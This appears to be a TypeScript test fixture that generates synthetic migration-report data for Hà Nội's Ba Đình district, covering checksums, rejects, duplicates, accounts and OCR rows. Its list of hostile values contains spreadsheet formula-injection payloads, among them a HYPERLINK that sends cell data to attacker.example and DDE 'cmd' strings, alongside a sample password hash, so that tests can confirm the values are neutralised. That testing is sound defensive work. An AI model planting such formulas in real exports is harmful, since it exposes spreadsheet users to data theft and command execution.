/**
 * A small generated "world" for the report tests: a run over Hà Nội's old Ba Đình district with
 * known ground truth (counts per source/table/old unit, which rows were broken on purpose),
 * real ambiguous communes from the shared crosswalk, and hostile values (formula injection,
 * password hashes, CCCD and phone numbers) in the places real data hides them.
 */
import { readFileSync } from "node:fs"
import { parse } from "csv-parse/sync"
import type {
  AccountRow,
  DuplicatePairRow,
  OcrReviewRow,
  RejectRow,
  RunHeader,
  SummaryRow,
  UnitReviewRow
} from "../../reports/report-rows.ts"
import type { SummaryStatus } from "../../reports/labels.ts"

/** Deterministic PRNG (mulberry32) so every run builds the same world. */
export const seededRandom = (seed: number): (() => number) => {
  let a = seed >>> 0
  return () => {
    a = (a + 0x6d2b79f5) >>> 0
    let t = a
    t = Math.imul(t ^ (t >>> 15), t | 1)
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61)
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296
  }
}

interface MappingRow {
  readonly old_province_code: string
  readonly old_district_code: string
  readonly old_ward_code: string
  readonly old_ward_name: string
  readonly new_ward_code: string
  readonly new_ward_name: string
  readonly area_only: string
}

const MAPPING_CSV = new URL("../../../shared/data/admin-units/ward_mapping_old_to_new_nso.csv", import.meta.url)

/** Old communes of Ba Đình (district 001) and the new communes each went to (population moves only). */
export const loadBaDinhCrosswalk = (): ReadonlyMap<string, { name: string; targets: Array<{ code: string; name: string }> }> => {
  const rows = parse(readFileSync(MAPPING_CSV, "utf8"), { columns: true, skip_empty_lines: true }) as MappingRow[]
  const out = new Map<string, { name: string; targets: Array<{ code: string; name: string }> }>()
  for (const r of rows) {
    if (r.old_province_code !== "01" || r.old_district_code !== "001" || r.area_only !== "false") continue
    const entry = out.get(r.old_ward_code) ?? { name: r.old_ward_name, targets: [] }
    entry.targets.push({ code: r.new_ward_code, name: r.new_ward_name })
    out.set(r.old_ward_code, entry)
  }
  return out
}

export interface SummaryTruth {
  readonly row: SummaryRow
  readonly expectedStatus: SummaryStatus
}

export interface World {
  readonly header: RunHeader
  readonly summary: ReadonlyArray<SummaryTruth>
  readonly rejects: ReadonlyArray<RejectRow>
  readonly units: ReadonlyArray<UnitReviewRow>
  readonly duplicates: ReadonlyArray<DuplicatePairRow>
  readonly accounts: ReadonlyArray<AccountRow>
  readonly ocr: ReadonlyArray<OcrReviewRow>
}

/** Strings a hostile or careless source holds; each must reach a workbook inert. */
export const INJECTION_VALUES: ReadonlyArray<string> = [
  '=HYPERLINK("http://attacker.example/?x="&A1,"Bấm vào đây")',
  "+84 912 345 678",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1"
]

export const BCRYPT_HASH = "$2b$10$N9qo8uLOickgx2ZMRZoMyeIjZAgcfl7p92ldGxad68LJZdL17lhWy"

export const buildWorld = (seed = 20250701): World => {
  const random = seededRandom(seed)
  const int = (lo: number, hi: number): number => lo + Math.floor(random() * (hi - lo + 1))
  const crosswalk = loadBaDinhCrosswalk()
  const oldUnits = [...crosswalk.entries()].slice(0, 6)
  const sources = ["mot-cua-hanoi", "hotich-hatay"]
  const tables = ["citizen", "dossier", "civil_status_event"]

  const summary: SummaryTruth[] = []
  let index = 0
  for (const source of sources) {
    for (const table of tables) {
      for (const [code, unit] of oldUnits) {
        const loaded = int(50, 5000)
        const merged = int(0, 40)
        const rejected = int(0, 25)
        const checksum = `${(index * 2654435761 % 2 ** 32).toString(16).padStart(8, "0")}${code}`
        let read = loaded + merged + rejected
        let target: string | null = checksum
        let expectedStatus: SummaryStatus = "match"
        if (index === 3) {
          read += 2 // two rows vanished: conservation fails
          expectedStatus = "mismatch"
        } else if (index === 7) {
          target = `${checksum.slice(0, -1)}x` // one field changed on the target
          expectedStatus = "mismatch"
        } else if (index === 11) {
          target = null
          expectedStatus = "notChecked"
        }
        summary.push({
          row: {
            source,
            table,
            oldUnitCode: code,
            oldUnitName: unit.name,
            read,
            loaded,
            merged,
            rejected,
            pendingReview: int(0, 3),
            sourceChecksum: checksum,
            targetChecksum: target
          },
          expectedStatus
        })
        index++
      }
    }
  }

  const rejects: RejectRow[] = []
  for (let i = 0; i < 60; i++) {
    const hostile = INJECTION_VALUES[i % INJECTION_VALUES.length] ?? ""
    rejects.push({
      source: sources[i % 2] ?? "",
      table: tables[i % 3] ?? "",
      sourceKey: `K${String(i).padStart(6, "0")}`,
      stage: i % 4 === 0 ? "unit-mapping" : "normalize",
      errorCode: i % 4 === 0 ? "UNIT_UNKNOWN" : "INVALID_CCCD",
      message: i % 5 === 0 ? "Số CCCD 001090012345 không hợp lệ, SĐT 0912345678" : "Giá trị không hợp lệ",
      rawValue: i === 0 ? `password_hash=${BCRYPT_HASH}` : hostile
    })
  }

  const units: UnitReviewRow[] = []
  let u = 0
  for (const [code, unit] of crosswalk) {
    if (unit.targets.length < 2) continue
    units.push({
      reviewKey: `unit:${String(u).padStart(4, "0")}`,
      source: "mot-cua-hanoi",
      table: "citizen",
      sourceKey: `C${1000 + u}`,
      oldProvinceCode: "01",
      oldDistrictCode: "001",
      oldCommuneCode: code,
      address: `Số ${u + 1} ngõ ${u + 3}, ${unit.name}, Quận Ba Đình`,
      status: "ambiguous",
      candidates: unit.targets
    })
    u++
    if (u === 6) break
  }
  units.push({
    reviewKey: "unit:unknown-1",
    source: "hotich-hatay",
    table: "civil_status_event",
    sourceKey: "H77",
    oldProvinceCode: "01",
    oldDistrictCode: "001",
    oldCommuneCode: "99999",
    address: "=1+1 thôn Đoài",
    status: "unknown",
    candidates: []
  })

  const duplicates: DuplicatePairRow[] = []
  for (let i = 0; i < 4; i++) {
    duplicates.push({
      reviewKey: `dup:${i}`,
      clusterId: `cluster-${Math.floor(i / 2)}`,
      recordType: "citizen",
      recordA: {
        source: "mot-cua-hanoi",
        sourceKey: `A${i}`,
        fields: { fullName: "Nguyễn Văn An", birthDate: new Date(Date.UTC(1990, 0, 2 + i)), citizenId: `00109001234${i}`, phone: "0912345678" }
      },
      recordB: {
        source: "hotich-hatay",
        sourceKey: `B${i}`,
        fields: { fullName: "Nguyen Van An", birthDate: new Date(Date.UTC(1990, 0, 2 + i)), citizenId: `00109001234${i}`, phone: "-" }
      },
      score: 9.25 - i,
      breakdown: [
        { field: "fullName", level: "similar", weight: 2.5 },
        { field: "birthDate", level: "exact", weight: 4.75 },
        { field: "citizenId", level: "exact", weight: 6 },
        { field: "phone", level: "different", weight: -3.5 }
      ]
    })
  }

  const accounts: AccountRow[] = [
    { source: "mot-cua-hanoi", oldUsername: "canbo01", newUsername: "canbo01.badinh", fullName: "Trần Thị Bình", oldUnitCode: "00016", newUnitCode: "00008", action: "renamed", mergedInto: null, note: null },
    { source: "hotich-hatay", oldUsername: "canbo01", newUsername: null, fullName: "Trần Thị Bình", oldUnitCode: "00016", newUnitCode: "00008", action: "merged", mergedInto: "canbo01.badinh", note: `hash ${BCRYPT_HASH}` },
    { source: "mot-cua-hanoi", oldUsername: "0912345678", newUsername: "0912345678", fullName: "Lê Văn Cường", oldUnitCode: "00019", newUnitCode: "00004", action: "mustReset", mergedInto: null, note: null },
    { source: "mot-cua-hanoi", oldUsername: "tamthoi", newUsername: null, fullName: null, oldUnitCode: null, newUnitCode: null, action: "disabled", mergedInto: null, note: "=cmd|' /C calc'!A0" }
  ]

  const ocr: OcrReviewRow[] = [
    { reviewKey: "ocr:0", file: "scans/ho-tich-1995.pdf", page: 3, pageImagePath: "pages/ho-tich-1995-p3.png", field: "fullName", value: "Nguyễn Văn Ạn", confidence: 0.42, linkStatus: "linked" },
    { reviewKey: "ocr:1", file: "scans/ho-tich-1995.pdf", page: 3, pageImagePath: "pages/ho-tich-1995-p3.png", field: "birthDate", value: "02/01/199O", confidence: 0.61, linkStatus: "linked" },
    { reviewKey: "ocr:2", file: "scans/ho-tich-1995.pdf", page: 4, pageImagePath: null, field: "citizenId", value: "001090012345", confidence: 0.7, linkStatus: "linked" },
    { reviewKey: "ocr:3", file: "scans/khong-ro.pdf", page: 1, pageImagePath: "pages/khong-ro-p1.png", field: null, value: null, confidence: null, linkStatus: "unlinked" }
  ]

  return {
    header: {
      runId: "run-2025-07-01-badinh",
      province: "Thành phố Hà Nội (01)",
      sources,
      startedAt: new Date("2025-07-01T01:00:00Z"),
      finishedAt: new Date("2025-07-01T02:30:00Z"),
      toolVersion: "0.1.0",
      configHash: "sha256:4f1c0a"
    },
    summary,
    rejects,
    units,
    duplicates,
    accounts,
    ocr
  }
}
